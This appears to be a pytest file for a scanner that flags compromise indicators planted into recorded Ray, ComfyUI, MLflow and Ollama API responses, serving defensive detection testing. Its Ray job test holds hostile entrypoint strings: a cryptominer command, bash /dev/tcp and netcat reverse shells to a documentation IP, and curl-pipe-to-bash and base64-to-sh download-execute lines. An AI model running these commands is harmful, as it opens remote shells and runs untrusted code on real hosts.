"""Compromise indicators planted into recorded Ray, ComfyUI, MLflow and Ollama responses; the recorded responses
themselves show none. Every indicator cites its source."""

from __future__ import annotations

import json

import pytest
import yaml

from aisweep.checks.indicators import builtin_indicators, parse_indicators
from aisweep.errors import RuleError
from aisweep.models import Finding
from aisweep.rules.samples import Response
from tests.checks.planting import finding, ids, json_response, plant, recorded, run_on_recorded, scan


def indicator_ids(case: str, **planted) -> set[str]:  # type: ignore[no-untyped-def]
    return {i for i in ids(scan(plant(case, **planted))) if i.startswith("indicator.")}


def ray_jobs(*entries: tuple[str, str]) -> dict[str, object]:
    jobs = json.loads(recorded("ray-2.60.0-open", "GET", "/api/jobs/").body)
    template = jobs[0]
    planted = [{**template, "submission_id": sid, "entrypoint": ep} for sid, ep in entries]
    return {"/api/jobs/": json_response(jobs + planted)}


def test_recorded_samples_show_no_indicators() -> None:
    for case in ("ray-2.60.0-open", "comfyui-0.3.64-open", "mlflow-2.9.2-open", "ollama-0.5.7-open"):
        assert indicator_ids(case) == set(), case


@pytest.mark.parametrize(
    ("entrypoint", "indicator"),
    [
        ("./xmrig -o stratum+tcp://pool.example:3333 -u 4AbC --donate-level 1", "indicator.ray-job-cryptominer"),
        ("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'", "indicator.ray-job-reverse-shell"),
        ("nc -e /bin/sh 203.0.113.7 4444", "indicator.ray-job-reverse-shell"),
        ("curl -fsSL http://203.0.113.7:8080/x.sh | bash", "indicator.ray-job-download-execute"),
        ("echo ZWNobyBoaQ== | base64 -d | sh", "indicator.ray-job-download-execute"),
    ],
)
def test_ray_job_entrypoints(entrypoint: str, indicator: str) -> None:
    service = scan(plant("ray-2.60.0-open", paths=ray_jobs(("raysubmit_Ab12Cd34Ef56Gh78", entrypoint))))
    f = finding(service, indicator)
    assert f.severity.value == "high" and f.control.value == "logging-monitoring"
    assert "not proof of compromise" in f.evidence and "Source:" in f.evidence
    assert "compromised" not in f.title.lower()


def test_shadowray2_submission_id() -> None:
    found = indicator_ids("ray-2.60.0-open", paths=ray_jobs(("202511040301_aa17", "python train.py")))
    assert found == {"indicator.ray-shadowray2-submission-id"}


def comfyui_indicators(**planted) -> dict[str, Finding]:  # type: ignore[no-untyped-def]
    findings = run_on_recorded(plant("comfyui-0.3.64-open", **planted))
    return {f.id: f for f in findings if f.id.startswith("indicator.")}


def test_comfyui_recorded_nodes_and_extensions_are_clean() -> None:
    assert comfyui_indicators() == {}


def test_comfyui_nodes_in_a_truncated_object_info() -> None:
    """The recorded /object_info was capped mid-document, as the engine caps it; planted nodes go in front."""
    recorded_info = recorded("comfyui-0.3.64-open", "GET", "/object_info")
    planted = (
        b'{"GPUPerformanceMonitor": {"input": {}, "display_name": "GPU Performance Monitor", "python_module": '
        b'"custom_nodes.gpu_mon"}, "FL_CodeNode": {"input": {}, "python_module": "custom_nodes.ComfyUI_Fill-Nodes"}, '
        + recorded_info.body[1:]
    )
    found = comfyui_indicators(paths={"/object_info": Response(200, recorded_info.headers, planted, True)})
    assert found["indicator.comfyui-ghost-fake-monitor-node"].severity.value == "high"
    assert found["indicator.comfyui-code-execution-node"].severity.value == "medium"


def test_comfyui_extension_directory() -> None:
    ext = json.loads(recorded("comfyui-0.3.64-open", "GET", "/extensions").body)
    ext.append("/extensions/ComfyUI_LLMVISION/js/vision.js")
    found = comfyui_indicators(paths={"/extensions": json_response(ext)})
    assert set(found) == {"indicator.comfyui-llmvision-node"}


def test_mlflow_experiment_names() -> None:
    path = "/api/2.0/mlflow/experiments/search?max_results=1000"
    doc = json.loads(recorded("mlflow-2.9.2-open", "GET", path).body)
    doc["experiments"].append({**doc["experiments"][0], "experiment_id": "9", "name": "recon"})
    planted = {path: json_response(doc), path.replace("/api/", "/ajax-api/"): json_response(doc)}
    assert indicator_ids("mlflow-2.9.2-open", paths=planted) == {"indicator.mlflow-attacker-experiment"}


def test_model_pulled_from_an_oast_host() -> None:
    tags = json.loads(recorded("ollama-0.5.7-open", "GET", "/api/tags").body)
    tags["models"].append({**tags["models"][0], "name": "c9x7k2.oast.fun/rogue/model:latest"})
    assert "indicator.model-oast-callback" in indicator_ids(
        "ollama-0.5.7-open", paths={"/api/tags": json_response(tags)}
    )


def test_every_indicator_cites_a_source_and_the_data_is_validated() -> None:
    for ind in builtin_indicators():
        assert ind.source.strip() and ("http" in ind.source or ":" in ind.source), ind.name
    with pytest.raises(RuleError, match="unknown 'where'"):
        parse_indicators(yaml.safe_load("indicators: [{name: x, title: t, where: nowhere, source: s, regex: a}]"))
    with pytest.raises(RuleError, match="missing source"):
        parse_indicators(yaml.safe_load("indicators: [{name: x, title: t, where: model-name, regex: a}]"))
